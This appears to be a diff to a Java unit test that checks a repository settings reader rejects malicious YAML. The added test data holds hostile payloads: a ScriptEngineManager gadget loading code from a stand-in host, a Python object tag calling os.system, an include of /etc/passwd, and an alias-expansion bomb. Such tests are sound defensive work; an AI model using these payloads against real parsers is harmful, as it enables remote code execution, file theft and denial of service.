@@ -126,6 +126,7 @@ class RepositoryFileTest {
                 List.of("infra/**"),
                 List.of("coverage"),
                 List.of(),
+                false,
                 List.of());
 
         RepositorySettings settings = new RepositoryFile(server).read(bytes("""
@@ -200,6 +201,23 @@ class RepositoryFileTest {
         assertThatThrownBy(() -> read("#" + "x".repeat(10_000_000)))
                 .isInstanceOf(SettingsException.class)
                 .hasMessageContaining("at most 256 KB are read");
+    }
+
+    /** A tag would make an object, an alias would multiply what it stands for. */
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "mode: !!javax.script.ScriptEngineManager [!!java.net.URL [\"http://evil.example/\"]]",
+                "trigger_label: !!python/object/apply:os.system [id]",
+                "trigger_label: !include /etc/passwd",
+                "protected_paths: &a [x, x]\nrequired_gates: *a",
+                "a: &a [x,x]\nb: &b [*a,*a]\nc: &c [*b,*b]\nd: &d [*c,*c]\nmode: *d",
+                "mode: draft\nmode: auto",
+                "mode: draft\n---\nmode: auto",
+                "<<: {mode: auto}",
+            })
+    void tricksOfYamlAreMistakes(String yaml) {
+        assertThatThrownBy(() -> read(yaml)).isInstanceOf(SettingsException.class);
     }
 
     private RepositorySettings read(String yaml) {
